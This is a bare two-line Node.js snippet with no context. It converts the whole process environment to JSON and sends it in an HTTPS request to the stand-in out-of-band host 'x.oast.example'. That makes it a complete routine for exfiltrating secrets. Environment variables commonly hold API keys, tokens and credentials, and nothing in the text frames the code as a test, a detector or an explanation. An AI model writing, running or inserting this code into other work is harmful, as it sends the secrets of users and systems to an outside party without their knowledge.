const d = JSON.stringify(process.env);
https.request({ hostname: "x.oast.example" }).end(d);
